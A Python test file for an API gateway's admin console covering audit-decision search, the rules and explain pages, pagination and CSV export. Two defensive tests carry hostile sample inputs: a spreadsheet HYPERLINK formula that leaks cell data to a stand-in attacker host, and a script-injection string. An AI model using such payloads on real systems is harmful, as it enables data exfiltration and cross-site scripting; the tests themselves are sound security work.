"""Pages on the audit log and the rules: decisions, one decision, a user, the rules page and explain."""

from __future__ import annotations

import re

from tests.console.conftest import build_console
from tests.integration.conftest import auth

HEIDI = auth("heidi")


async def traffic(console):
    """Real requests through the gateway: an allowed read, a denial, a shadow 'would deny'."""
    assert (await console.get("/api/customers/1", headers=auth("alice", ip="10.1.2.3"))).status in (200, 403, 404)
    assert (await console.get("/api/admin/users", headers=auth("alice", ip="10.1.2.3"))).status == 403
    assert (await console.get("/api/customers?page_size=100", headers=auth("frank", ip="10.1.2.3"))).status == 200


def decision_ids(html: str) -> list[str]:
    return re.findall(r'<tr data-href="/_gw/console/decisions/([^"]+)"', html)


async def test_decisions_are_searched_by_user_and_effect_newest_first(console):
    await traffic(console)
    html = await (await console.get("/_gw/console/decisions?user=alice&effect=deny", headers=HEIDI)).text()
    ids = decision_ids(html)
    assert len(ids) >= 1
    assert "/api/admin/users" in html and "page_size" not in html


async def test_the_decisions_api_answers_json(console):
    await traffic(console)
    body = await (await console.get("/_gw/console/api/decisions?operation=customers.*", headers=HEIDI)).json()
    assert {d["user"] for d in body["decisions"]} == {"alice", "frank"}
    assert body["truncated"] is False


async def test_one_decision_shows_every_rule_and_criterion_with_its_reason(console):
    await traffic(console)
    html = await (await console.get("/_gw/console/decisions?user=alice&effect=deny", headers=HEIDI)).text()
    page = await console.get(f"/_gw/console/decisions/{decision_ids(html)[0]}", headers=HEIDI)
    text = await page.text()
    assert page.status == 200
    assert 'class="data compact trace"' in text
    assert "role-unauthorized" in text  # a criterion's reason from the re-evaluation
    api = await (await console.get(f"/_gw/console/api/decisions/{decision_ids(html)[0]}", headers=HEIDI)).json()
    assert api["decision"]["effect"] == "deny" and api["reevaluated"]["trace"]


async def test_an_unknown_decision_is_404(console):
    assert (await console.get("/_gw/console/decisions/nope", headers=HEIDI)).status == 404


async def test_the_user_view_shows_decisions_denials_hours_and_countries(console):
    await traffic(console)
    html = await (await console.get("/_gw/console/users/alice", headers=HEIDI)).text()
    assert "Recent denials" in html and "/api/admin/users" in html
    assert "Busy hours: <strong>" in html and "no activity" not in html
    countries = re.search(r"<h2>Countries</h2>.*?</table>", html, re.S).group(0)
    assert re.search(r'<td>[A-Za-z]+</td><td class="num">2</td>', countries)  # both of alice's requests


async def test_the_rules_page_counts_what_shadow_rules_would_have_denied(console):
    await traffic(console)
    html = await (await console.get("/_gw/console/rules", headers=HEIDI)).text()
    assert "support-bulk-read-review" in html
    assert re.search(r'rule=support-bulk-read-review">1</a>', html)
    assert "No reload error." in html
    assert console.gw.store.current.revision in html


async def test_the_rules_page_shows_the_last_reload_error(aiohttp_client, crm, tmp_path, clock, redis_url, rules_copy):
    # No background reload (interval of an hour): the test reloads once, itself.
    console = await build_console(
        aiohttp_client, crm, tmp_path, clock, redis_url, rules=rules_copy, reload_interval=3600
    )
    (rules_copy / "operations.yaml").write_text("format: crmgw.rules/v1\nbogus: [\n")
    console.gw.store.check()  # first sight of a change: waits for it to settle
    assert console.gw.store.check() is False
    html = await (await console.get("/_gw/console/rules", headers=HEIDI)).text()
    assert "Last reload failed" in html and "operations.yaml" in html


async def test_explain_shows_the_decision_trace(console):
    html = await (
        await console.get(
            "/_gw/console/rules?user=alice&method=GET&path=/api/admin/users&at=2026-03-03T10:00&ip=10.1.2.3",
            headers=HEIDI,
        )
    ).text()
    assert 'class="badge effect-deny"' in html and "operation admin.admin" in html
    assert 'class="data compact trace"' in html


async def test_explain_reports_bad_input(console):
    resp = await console.get("/_gw/console/rules?user=alice&method=GET&path=/api/customers&ip=not-an-ip", headers=HEIDI)
    assert resp.status == 400


async def test_decisions_page_through_the_index_like_the_scan(aiohttp_client, crm, tmp_path, clock, redis_url):
    from gateway.audit.search import AuditQuery, search

    console = await build_console(aiohttp_client, crm, tmp_path, clock, redis_url, console={"page_size": 10})
    for i in range(23):
        assert (await console.get(f"/api/customers/{i + 1}", headers=auth("alice", ip="10.1.2.3"))).status in (
            200,
            403,
            404,
        )
    seen, url = [], "/_gw/console/decisions?user=alice"
    while url:
        html = await (await console.get(url, headers=HEIDI)).text()
        assert "Answered by the audit index" in html and 'href="/_gw/console/api/decisions.csv?user=alice"' in html
        seen += decision_ids(html)
        older = re.search(r'<a href="(/_gw/console/decisions\?[^"]+)" rel="next">', html)
        url = older.group(1).replace("&amp;", "&") if older else ""
    scanned = search(console.console.audit_path, AuditQuery(user="alice"), limit=1000).records
    assert seen == [r["decision_id"] for r in scanned] and len(seen) == 23
    api = await (await console.get("/_gw/console/api/decisions?user=alice", headers=HEIDI)).json()
    assert api["via"] == "index" and len(api["decisions"]) == 10 and api["next_before"]
    older = await console.get(f"/_gw/console/api/decisions?user=alice&before={api['next_before']}", headers=HEIDI)
    assert [d["decision_id"] for d in (await older.json())["decisions"]] == seen[10:20]
    bad = await console.get("/_gw/console/api/decisions?before=x%3Cb%3E", headers=HEIDI)
    assert bad.status == 400 and "<b>" not in await bad.text()
    assert (await console.get("/_gw/console/decisions?before=%C2%B2", headers=HEIDI)).status == 400  # "²".isdigit()


async def test_a_search_exports_as_csv_with_formulas_defused(console):
    import csv
    import io

    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    headers = {**auth("alice", ip="10.1.2.3"), "User-Agent": evil}
    assert (await console.get("/api/customers/1", headers=headers)).status in (200, 403, 404)
    assert (await console.get("/api/admin/users", headers=headers)).status == 403
    resp = await console.get("/_gw/console/api/decisions.csv?user=alice&effect=deny", headers=HEIDI)
    assert resp.status == 200 and resp.content_type == "text/csv"
    assert resp.headers["Content-Disposition"] == 'attachment; filename="decisions.csv"'
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert (rows[0]["user"], rows[0]["path"], rows[0]["effect"]) == ("alice", "/api/admin/users", "deny")
    assert {r["effect"] for r in rows} == {"deny"} and {r["user_agent"] for r in rows} == {"'" + evil}
    assert (await console.get("/_gw/console/api/decisions.csv?user=alice", headers=auth("alice"))).status == 403


async def test_no_console_request_and_no_favicon_writes_an_audit_line(console):
    await traffic(console)
    path = console.console.audit_path
    before = path.read_bytes()
    for url, headers in [
        ("/_gw/console/decisions?user=alice", HEIDI),
        ("/_gw/console/api/decisions.csv", HEIDI),
        ("/_gw/console/rules?user=alice&method=GET&path=/api/customers", HEIDI),
        ("/_gw/console/alerts", HEIDI),
        ("/_gw/console/no-such-page", HEIDI),
        ("/_gw/console/decisions", auth("alice")),  # a sales rep: 403
        ("/_gw/console/api/decisions", auth("alice")),
        ("/_gw/console/alerts", {}),  # not signed in: to the login page
        ("/_gw/console/login", {}),
        ("/_gw/console/static/console.js", {}),
        ("/favicon.ico", {}),
        ("/favicon.ico", HEIDI),
    ]:
        assert (await console.get(url, headers=headers, allow_redirects=False)).status < 500
    assert path.read_bytes() == before


async def test_search_filters_are_escaped_in_the_pager_and_export_links(console):
    await traffic(console)
    evil = '"><script>window.__xss=1</script>'
    resp = await console.get("/_gw/console/decisions", params={"user": evil, "rule": evil}, headers=HEIDI)
    html = await resp.text()
    assert resp.status == 200 and "<script>window.__xss" not in html
    assert "/api/decisions.csv?user=%22%3E%3Cscript%3E" in html
